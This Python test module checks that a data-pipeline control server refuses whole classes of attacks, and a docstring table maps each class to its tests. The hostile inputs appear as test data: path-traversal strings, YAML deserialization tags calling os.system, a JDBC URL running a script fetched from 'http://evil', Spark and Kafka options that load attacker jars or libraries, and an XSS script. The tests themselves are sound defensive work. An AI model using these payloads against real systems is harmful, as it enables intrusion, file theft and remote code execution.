"""Classes of holes that servers of this kind have had, and the tests that keep each of them shut.

| Class | Tests |
|---|---|
| open by default | api/test_access.py::test_every_route_but_the_public_ones_refuses_those_without_a_token |
| open by default | api/test_access.py::test_every_route_refuses_lesser_roles_and_takes_its_own_and_greater_ones |
| open by default | api/test_access.py::test_other_verbs_are_refused |
| open by default | api/test_access.py::test_an_application_with_an_open_route_does_not_start |
| open by default | api/test_listen.py::test_elsewhere_it_takes_a_certificate_or_a_clear_word |
| default keys | auth/test_tokens.py::test_the_first_start_makes_an_admin_whose_token_only_the_owner_reads |
| default keys | auth/test_tokens.py::test_no_two_servers_have_the_same_first_token |
| default keys | security/test_table.py::test_no_setting_has_a_secret_by_default_or_takes_one_word_by_word |
| path traversal | api/test_pipelines.py::test_tricks_with_names_find_nothing |
| path traversal | security/test_table.py::test_no_route_leads_out_of_its_folder |
| path traversal | test_policy.py::test_a_link_out_of_the_folder_is_seen_through |
| command injection | security/test_table.py::test_no_text_reaches_a_shell |
| command injection | security/test_table.py::test_an_author_has_no_say_in_how_spark_is_started |
| command injection | launch/test_environment.py::test_a_variable_that_nobody_named_stays_in_the_server |
| SSRF and file read | test_policy.py::test_a_scheme_that_is_not_allowed_is_refused |
| SSRF and file read | test_policy.py::test_metadata_addresses_are_refused_however_they_are_written |
| SSRF and file read | test_policy.py::test_every_field_that_names_a_file_is_looked_at |
| SSRF and file read | security/test_table.py::test_checking_a_file_reaches_out_to_nobody |
| options as weapons | security/test_table.py::test_options_of_clients_that_load_or_run_something_are_refused |
| code from config | test_policy.py::test_code_needs_the_role_of_a_coder |
| code from config | test_policy.py::test_a_python_file_needs_a_coder_and_runs_elsewhere |
| code from config | security/test_table.py::test_yaml_makes_no_objects |
| secrets shown | security/test_canary.py::test_a_secret_is_in_nothing_that_a_run_and_its_server_write |
| secrets shown | security/test_canary.py::test_a_password_written_into_a_file_is_refused_without_being_repeated |
| secrets shown | api/test_pipelines.py::test_a_secret_shows_nowhere |
| XSS from logs and names | api/test_pipelines.py::test_browsers_are_told_to_trust_nothing |
| XSS from logs and names | security/test_table.py::test_markup_in_names_and_logs_stays_text |
| object-level access | api/test_access.py::test_others_pipelines_do_not_exist_on_any_route |
| object-level access | api/test_access.py::test_lists_hold_only_what_may_be_seen |
| object-level access | security/test_table.py::test_what_belongs_to_others_is_not_found_by_its_number |
| tokens | auth/test_oidc.py::test_the_public_key_is_no_shared_secret |
| tokens | auth/test_oidc.py::test_no_signature_is_refused |
| tokens | auth/test_tokens.py::test_unknown_expired_and_revoked_tokens_sound_the_same |
| tokens | api/test_access.py::test_expired_and_revoked_tokens_are_refused_at_once |
"""

from __future__ import annotations

import ast
import datetime as dt
import re
import socket
from dataclasses import replace
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from tests.control.api.server import Server
from tests.control.files import yaml
from tests.control.test_policy import with_source

import penstock
from penstock.control.api.routes import console
from penstock.control.auth.roles import Role
from penstock.control.config import ServerConfig, read_server_config
from penstock.control.policy import Policy
from penstock.control.store import alerts, runs
from penstock.control.supervisor.ports import Run
from penstock.errors import PenstockError, Severity
from penstock.frontends.yaml import parse_yaml
from penstock.graph.build import build
from penstock.graph.validate import check
from penstock.reports.folder import RunFolder
from penstock.reports.values import LogLine
from penstock.runner.logs import RunLog
from penstock.spec.fields import Config

SOURCES = Path(penstock.__file__).parent
TESTS = Path(__file__).parents[1]
CANARY = "canary-5d1e"
RUN = "r0123456789ab"


def test_every_test_of_the_table_is_there() -> None:
    rows = re.findall(r"^\| ([^|]+) \| ([\w/]+\.py)::(\w+) \|$", __doc__ or "", re.MULTILINE)
    assert len({kind for kind, _, _ in rows}) == 11
    for _, file, name in rows:
        assert f"def {name}(" in (TESTS / file).read_text("utf-8"), (file, name)


# --- default keys and passwords ----------------------------------------------------------------------------


def _secrets(config: type[Config]) -> list[tuple[str, Any]]:
    found = []
    for name, info in config.model_fields.items():
        extra = info.json_schema_extra
        if (isinstance(extra, dict) and extra.get("secret")) or re.search(r"secret$|password|token$", name):
            found.append((name, info.default))
        for part in _classes(info.annotation):
            found += _secrets(part)
    return found


def _classes(annotation: Any) -> list[type[Config]]:
    inner = getattr(annotation, "__args__", ())
    found = [each for part in inner for each in _classes(part)]
    return [annotation, *found] if isinstance(annotation, type) and issubclass(annotation, Config) else found


def test_no_setting_has_a_secret_by_default_or_takes_one_word_by_word(tmp_path: Path) -> None:
    found = _secrets(ServerConfig)
    assert "client_secret" in [name for name, _ in found]
    assert all(default is None or "Undefined" in repr(default) for _, default in found)
    file = tmp_path / "serve.yaml"
    file.write_text(
        "oidc: {issuer: 'https://login.example.com', clientId: p, clientSecret: changeme,\n"
        "       redirect: 'https://p.example.com/api/v1/login/callback'}\n",
        "utf-8",
    )
    with pytest.raises(PenstockError) as raised:
        read_server_config(file)
    assert "changeme" not in str(raised.value.problems[0].as_dict())


# --- path traversal ----------------------------------------------------------------------------------------

TRICKS = (
    "%2e%2e", "..%2f..%2f..%2fcanary.txt", "%2e%2e%2f%2e%2e%2fcanary.txt", "..%5c..%5ccanary.txt", "..;",
    "%252e%252e%252fcanary.txt", "....%2f%2fcanary.txt", "%2fetc%2fpasswd", "a%00", "%c0%ae%c0%ae", "a%2f..%2f..%2fx",
)  # fmt: skip


@pytest.mark.parametrize("trick", TRICKS)
def test_no_route_leads_out_of_its_folder(server: Server, tmp_path: Path, trick: str) -> None:
    admin = server.client(Role.ADMIN)
    admin.apply("a")
    for folder in (tmp_path.parent, tmp_path, tmp_path / "pipelines"):
        folder.mkdir(exist_ok=True)
        (folder / "canary.txt").write_text(CANARY, "utf-8")
    before, page = sorted(tmp_path.rglob("*")), admin.get("/").text
    for path in sorted({getattr(route, "path", "") for route in server.app.routes}):
        if "{" not in path or path.endswith("/stream"):
            continue
        for filled in (re.sub(r"\{\w+\}", trick, path), re.sub(r"\{\w+\}", trick, path.replace("{name}", "a"))):
            if trick not in filled:
                continue
            answer = admin.get(filled)
            # Every address of the console gives its one page, whatever stands in it.
            shown = path in console.PAGES and answer.text == page
            assert shown or answer.status_code in (404, 405, 422), (filled, answer.text)
            assert CANARY not in answer.text
    assert sorted(tmp_path.rglob("*")) == before
    (tmp_path.parent / "canary.txt").unlink()


# --- command injection -------------------------------------------------------------------------------------


def _calls() -> list[tuple[Path, ast.Call]]:
    return [
        (file, node)
        for file in sorted(SOURCES.rglob("*.py"))
        for node in ast.walk(ast.parse(file.read_text("utf-8")))
        if isinstance(node, ast.Call)
    ]


def test_no_text_reaches_a_shell() -> None:
    started = 0
    for file, call in _calls():
        name = ast.unparse(call.func)
        assert name not in ("os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput"), file
        assert not name.startswith(("os.spawn", "pty.")), file
        if name.startswith("os.exec"):
            # The launcher becomes the command that it was given, as a list.
            assert (str(file).endswith("control/launch/confined.py"), name) == (True, "os.execvp"), file
            assert ast.unparse(call.args[1]) == "list(command)"
        assert not any(keyword.arg == "shell" for keyword in call.keywords), file
        if name in ("subprocess.Popen", "subprocess.run", "subprocess.check_output", "subprocess.call"):
            started += 1
            assert not isinstance(call.args[0], ast.Constant | ast.JoinedStr), f"{file}: a command is a list"
    assert started >= 3


@pytest.mark.parametrize(
    "body",
    [
        "run: {conf: {spark.driver.extraJavaOptions: '-javaagent:/tmp/x.jar'}}",
        "run: {packages: ['org.example:evil:1']}",
        "run: {jars: [/tmp/evil.jar]}",
        "run: {master: 'local[1]'}",
        "spark: {spark.jars: /tmp/evil.jar}",
        "conf: {spark.plugins: evil.Plugin}",
        "state: {conf: {spark.plugins: evil.Plugin}}",
    ],
)
def test_an_author_has_no_say_in_how_spark_is_started(server: Server, body: str) -> None:
    sent = {"files": [{"path": "a.yaml", "text": yaml("a", body)}]}
    answer = server.client(Role.ADMIN).post("/api/v1/apply", sent)
    assert (answer.status_code, answer.json()["code"]) == (422, "SPEC_UNKNOWN_KEY")
    assert answer.json()["problems"][0]["location"]["line"] >= 9
    asked = {"files": [{"path": "a.yaml", "text": yaml("a")}], "conf": {"spark.plugins": "evil.Plugin"}}
    assert server.client(Role.ADMIN).post("/api/v1/apply", asked).status_code == 422


# --- what files make the server do ---------------------------------------------------------------------------


def test_checking_a_file_reaches_out_to_nobody(server: Server) -> None:
    """Or an author could find out what answers inside the network, and what files there are."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.setblocking(False)
        port = listening.getsockname()[1]
        sources = (
            f"{{sql_poll: {{url: 'postgresql://u:${{secret:env/PW}}@127.0.0.1:{port}/x', table: t, order: id}}}}",
            f"{{kafka: {{bootstrap: '127.0.0.1:{port}', topic: t}}, format: {{text: {{}}}}}}",
            f"{{files: {{path: s3a://bucket/x, s3: {{endpoint: 'http://127.0.0.1:{port}'}}}}, format: {{text: {{}}}}}}",
            "{files: {path: not-there}, format: {text: {}}}",
        )
        for source in sources:
            sent = {"files": [{"path": "p.yaml", "text": with_source(source)}]}
            for path in ("validate", "plan", "apply"):
                answer = server.client(Role.AUTHOR).post(f"/api/v1/{path}", sent)
                assert answer.status_code == 200, answer.text
        with pytest.raises(BlockingIOError):
            listening.accept()


@pytest.mark.parametrize(
    "source",
    [
        "{kafka: {bootstrap: '127.0.0.1:1', topic: t, options: {sasl.jaas.config: 'com.sun.JndiLoginModule'}},"
        " format: {text: {}}}",
        "{kafka: {bootstrap: '127.0.0.1:1', topic: t, options: {plugin.library.paths: /tmp/x.so}}, format: {text: {}}}",
        "{kafka: {bootstrap: '127.0.0.1:1', topic: t, options: {ssl.engine.location: /tmp/x.so}}, format: {text: {}}}",
        "{kafka: {bootstrap: '127.0.0.1:1', topic: t, options: {ssl.keystore.location: /etc/x}}, format: {text: {}}}",
        "{sql_poll: {url: 'postgresql://u@127.0.0.1:1/x?socketFactory=evil', table: t, order: id}}",
        "{sql_poll: {url: 'postgresql://u@127.0.0.1:1/x?options=-c%20x', table: t, order: id}}",
        "{sql_poll: {url: 'postgresql://u@127.0.0.1:1/x?passfile=/etc/passwd', table: t, order: id}}",
        "{sql_poll: {url: 'mysql://u@127.0.0.1:1/x?local_infile=1', table: t, order: id}}",
        "{sql_poll: {url: 'mysql://u@127.0.0.1:1/x?init_command=DROP', table: t, order: id}}",
    ],
)
def test_options_of_clients_that_load_or_run_something_are_refused(policy: Policy, source: str) -> None:
    """By the server, or by the check with which every run begins, before it connects to anything."""
    text = with_source(source)
    file = replace(parse_yaml(text, Path("p.yaml")), base=policy.folder)
    found = policy.problems(file, Role.ADMIN)
    with mock.patch.object(socket, "create_connection", side_effect=AssertionError("it reaches out")):
        found += [problem for problem in check(build(file)) if problem.severity is Severity.ERROR]
    assert {problem.code for problem in found} & {"SPEC_BAD_VALUE", "URL_NOT_ALLOWED", "PATH_NOT_ALLOWED"}


def test_an_address_of_jdbc_is_none(server: Server) -> None:
    source = "{sql_poll: {url: 'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM http://evil/x', table: t, order: id}}"
    sent = {"files": [{"path": "p.yaml", "text": with_source(source)}]}
    answer = server.client(Role.ADMIN).post("/api/v1/apply", sent)
    assert (answer.status_code, answer.json()["code"]) == (422, "SPEC_BAD_VALUE")


@pytest.mark.parametrize(
    "text",
    [
        "!!python/object/apply:os.system ['touch made']",
        "!!python/name:os.system",
        "!!javax.script.ScriptEngineManager []",
        "a: &a [*a]\n",
        "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\n"
        "d: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e]\n",
    ],
)
def test_yaml_makes_no_objects(server: Server, tmp_path: Path, text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    answer = server.client(Role.ADMIN).post("/api/v1/apply", {"files": [{"path": "p.yaml", "text": text}]})
    assert answer.status_code == 422, answer.text
    assert len(answer.content) < 100_000
    assert not (tmp_path / "made").exists()


# --- markup, and what belongs to others ----------------------------------------------------------------------

MARKUP = "<script>alert(1)</script>"


def test_markup_in_names_and_logs_stays_text(server: Server) -> None:
    coder = server.client(Role.CODER)
    for name in (MARKUP, 'a"b', "a<b"):
        assert coder.post("/api/v1/apply", {"files": [{"path": "p.yaml", "text": yaml(name)}]}).status_code == 422
    assert coder.apply("a", labels=f'{{team: "{MARKUP}"}}').status_code == 200
    with server.store.writing() as connection:
        runs.put(connection, [Run(RUN, "a", 1, 1, "local", server.time)])
    folder = RunFolder(server.services.folder.run("a", RUN))
    folder.make()
    RunLog(folder.lines).write(LogLine(server.time, "ERROR", "user", MARKUP, None, MARKUP))
    answers = [coder.get(f"/api/v1/{path}") for path in ("pipelines", "pipelines/a/logs", f"pipelines/{MARKUP}")]
    answers.append(coder.post("/api/v1/apply", {"files": [{"path": f"{MARKUP}.yaml", "text": MARKUP}]}))
    for answer in answers:
        assert MARKUP in answer.text or "%3Cscript%3E" in answer.text
        assert answer.headers["Content-Type"] in ("application/json", "application/problem+json")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "script-src" not in answer.headers["Content-Security-Policy"]
        assert "default-src 'none'" in answer.headers["Content-Security-Policy"]


def test_what_belongs_to_others_is_not_found_by_its_number(server: Server) -> None:
    coder = server.client(Role.CODER)
    coder.apply("ads1", labels="{team: ads}")
    coder.apply("news1", labels="{team: news}")
    with server.store.writing() as connection:
        runs.put(connection, [Run(RUN, "ads1", 1, 1, "local", server.time)])
        alert = alerts.open_alert(
            connection, "ads1", "lag", severity="warn", state="firing", since=server.time, evidence="x"
        )
    mine, all_ = server.client(Role.ADMIN, {"team": "news"}), server.client(Role.VIEWER)
    paths = (f"runs/{RUN}", f"alerts/{alert}", "pipelines/ads1/versions/1", f"pipelines/ads1/logs?run={RUN}")
    for path in paths:
        assert all_.get(f"/api/v1/{path}").status_code == 200, path
        assert mine.get(f"/api/v1/{path}").status_code == 404, path
    assert mine.get(f"/api/v1/pipelines/news1/logs?run={RUN}").status_code == 404
    for path in ("stream", "logs/stream"):
        assert mine.get(f"/api/v1/{path}?pipeline=ads1").status_code == 404
    for path in ("alerts?pipeline=ads1", "failovers?pipeline=ads1", "events?pipeline=ads1", "runs", "exceptions"):
        assert mine.get(f"/api/v1/{path}").json()["items"] == []
    asked = {"pipeline": "ads1", "until": (server.time + dt.timedelta(hours=1)).isoformat()}
    assert mine.post("/api/v1/silences", asked).status_code == 404
